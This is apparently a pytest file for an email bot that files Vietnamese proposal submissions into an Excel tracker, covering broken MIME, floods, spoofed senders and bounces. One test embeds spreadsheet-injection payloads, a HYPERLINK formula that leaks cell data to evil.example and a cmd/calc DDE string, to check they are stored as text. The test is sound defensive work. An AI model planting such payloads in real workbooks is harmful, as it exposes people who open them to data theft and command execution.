"""Messages off the happy path: no Message-ID, broken MIME, oversized attachments, floods,
hostile text headed for the officer's workbook, a person moving mail away mid-cycle."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import openpyxl

from mailbot.demo_mail import VN, DemoMail, descriptions_docx, email, task, task_list_xlsx
from mailbot.validation.schema import Rules
from tests.builders.emails import email_bytes, with_header
from tests.mailflow import Workspace, make_workspace

WHEN = dt.datetime(2023, 4, 20, 9, 0, tzinfo=VN)


def _submission(rules: Rules, organization: str = "Viện Cơ khí", name: str = "Nhiệm vụ thử nghiệm") -> list:
    tasks = [task(name, 2, "2024-01", "2024-06", 500, 500, organization)]
    return [
        ("PhuLuc1.xlsx", task_list_xlsx(rules, organization, tasks)),
        ("PhuLuc2.docx", descriptions_docx(rules, tasks)),
    ]


def _run(space: Workspace, *mails: DemoMail) -> None:
    space.deliver(list(mails))
    result = space.cli("once")
    assert result.exit_code == 0, result.output


def _mail(raw: bytes, expect: str = "", minutes: int = 0) -> DemoMail:
    return DemoMail("test", raw, WHEN + dt.timedelta(minutes=minutes), expect)


def test_a_message_without_message_id_is_answered_without_in_reply_to(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    _run(space, _mail(email_bytes(message_id=None, attachments=_submission(rules))))
    [reply] = space.replies()
    assert reply["In-Reply-To"] is None and reply["To"] == "a@vien.example.vn"
    assert space.export()["messages"][0]["action"] == "acknowledged"


def test_a_message_without_message_id_delivered_twice_is_a_duplicate_by_its_bytes(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    raw = email_bytes(message_id=None, attachments=_submission(rules))
    _run(space, _mail(raw), _mail(raw, minutes=5))
    assert [m["action"] for m in space.export()["messages"]] == ["acknowledged", "duplicate"]
    assert len(space.replies()) == 1


def test_a_message_with_a_broken_mime_structure_is_quarantined_and_asked_again(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    raw = email_bytes(attachments=_submission(rules))
    boundary = raw.split(b'boundary="')[1].split(b'"')[0]
    broken = raw.replace(b'boundary="' + boundary, b'boundary="not-' + boundary, 1)  # no part starts
    _run(space, _mail(broken))
    [message] = space.export()["messages"]
    assert message["action"] == "quarantined" and "MIME" in message["reason"]
    assert space.folder_count("Quarantine") == 1
    [reply] = space.replies()
    assert "Không đọc được" in reply["Subject"]


def test_an_attachment_over_the_size_limit_gets_a_correction_naming_the_limit(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    space.config.write_text(space.config.read_text() + "\n[limits]\nmax_attachment_bytes = 100000\n")
    big = ("BaoCao.pdf", b"%PDF-1.4\n" + b"0" * 150_000)
    _run(space, _mail(email_bytes(attachments=[*_submission(rules), big])))
    [submission] = space.export()["submissions"]
    finding = next(f for f in submission["findings"] if f["code"] == "attachment_too_large")
    assert finding["file"] == "BaoCao.pdf" and "MB" in finding["message"]
    assert submission["status"] == "needs_correction"


def test_replies_to_one_sender_stop_at_the_rate_limit_but_every_message_is_recorded(
    tmp_path: Path, rules: Rules
) -> None:
    space = make_workspace(tmp_path)
    space.config.write_text(space.config.read_text() + "\n[limits]\nreplies_per_sender = 2\n")
    mails = [_mail(email_bytes(attachments=_submission(rules, name=f"Nhiệm vụ {n}")), minutes=n) for n in range(4)]
    _run(space, *mails)
    assert [m["action"] for m in space.export()["messages"]] == [
        "acknowledged",
        "acknowledged",
        "rate_limited",
        "rate_limited",
    ]
    assert len(space.replies()) == 2 and len(space.export()["submissions"]) == 4


def test_formula_like_submitted_text_reaches_the_workbook_as_text(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    hostile = '=HYPERLINK("http://evil.example/?"&A1)'
    raw = email_bytes(
        subject="@SUM(1+1)", attachments=_submission(rules, organization=hostile, name="+cmd|' /C calc'!A1")
    )
    _run(space, _mail(raw))
    book = openpyxl.load_workbook(space.tracker)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {hostile, "+cmd|' /C calc'!A1", "@SUM(1+1)"} <= texts
    assert not [c for c in cells if c.data_type == "f"]


def test_a_note_typed_by_the_officer_survives_the_next_rebuild(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    _run(space, _mail(email_bytes(attachments=_submission(rules))))
    book = openpyxl.load_workbook(space.tracker)
    sheet = book["Hồ sơ"]
    headers = [c.value for c in sheet[1]]
    sheet.cell(2, headers.index("Ghi chú của cán bộ") + 1).value = "Đã gọi điện xác nhận"
    book.save(space.tracker)
    raw = email_bytes(sender="Viện Hóa học <b@hoahoc.example.vn>", attachments=_submission(rules, "Viện Hóa học"))
    _run(space, _mail(raw, minutes=30))
    sheet = openpyxl.load_workbook(space.tracker)["Hồ sơ"]
    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
    assert rows["SXTDBV-2024-0001"][headers.index("Ghi chú của cán bộ")] == "Đã gọi điện xác nhận"
    assert "SXTDBV-2024-0002" in rows


def test_a_message_moved_away_by_a_person_mid_cycle_is_skipped_and_nothing_else_changes(
    tmp_path: Path, rules: Rules
) -> None:
    from mailbot.bootstrap import build_app
    from mailbot.config import load_settings
    from mailbot.pipeline import process_one

    space = make_workspace(tmp_path)
    space.deliver([_mail(email_bytes(attachments=_submission(rules)))])
    app = build_app(load_settings(space.config))
    try:
        [key] = app.mailbox.list_new()
        for path in space.inbox():
            path.unlink()  # a person deletes it in their mail client
        assert process_one(app, key) is None
    finally:
        app.close()
    assert space.export()["messages"] == [] and space.replies() == []


def test_a_spoofed_from_that_hides_a_second_address_is_not_answered(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    raw = with_header(email_bytes(attachments=_submission(rules)), "From", "alice@x.example)<bob@y.example>")
    _run(space, _mail(raw))
    [message] = space.export()["messages"]
    assert message["action"] == "ignored" and space.replies() == []


def test_our_own_reply_coming_back_is_not_answered(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    _run(space, _mail(email_bytes(attachments=_submission(rules))))
    [reply] = space.replies()
    bounced = reply.as_bytes().replace(b"To: a@vien.example.vn", b"To: nop-de-xuat@example.org")
    _run(space, _mail(bounced, minutes=10))
    assert space.export()["messages"][1]["reason"] == "loop: our own reply" and len(space.replies()) == 1


def test_a_late_message_is_judged_by_its_arrival_not_its_date_header(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    raw, _ = email("Viện Cơ khí <a@vien.example.vn>", "Đề xuất", "Gửi.", _submission(rules), date=WHEN)
    space.deliver([DemoMail("late", raw, dt.datetime(2023, 5, 2, 8, 0, tzinfo=VN), "acknowledged")])
    space.cli("once")
    assert space.export()["submissions"][0]["late"] is True


def test_a_bounce_of_our_reply_marks_that_reply_undeliverable(tmp_path: Path, rules: Rules) -> None:
    space = make_workspace(tmp_path)
    _run(space, _mail(email_bytes(attachments=_submission(rules))))
    [reply] = space.replies()
    report = (
        b"From: Mail Delivery System <MAILER-DAEMON@vien.example.vn>\r\nTo: nop-de-xuat@example.org\r\n"
        b"Subject: Undelivered Mail Returned to Sender\r\nMessage-ID: <bounce1@vien.example.vn>\r\n"
        b'Content-Type: multipart/report; report-type=delivery-status; boundary="b"\r\n\r\n--b\r\n'
        b"Content-Type: text/plain\r\n\r\nThe mail system: <a@vien.example.vn>: mailbox full\r\n--b\r\n"
        b"Content-Type: text/rfc822-headers\r\n\r\nMessage-ID: " + reply["Message-ID"].encode() + b"\r\n--b--\r\n"
    )
    _run(space, _mail(report, minutes=5))
    bounce = space.export()["messages"][1]
    assert bounce["action"] == "ignored" and reply["Message-ID"] in bounce["reason"]
    log = openpyxl.load_workbook(space.tracker)["Nhật ký"]
    shown = [c.value for row in log.iter_rows(min_row=2) for c in row]
    assert "Gửi lỗi: thư bị trả lại, không đến được người nhận" in shown
    assert len(space.replies()) == 1
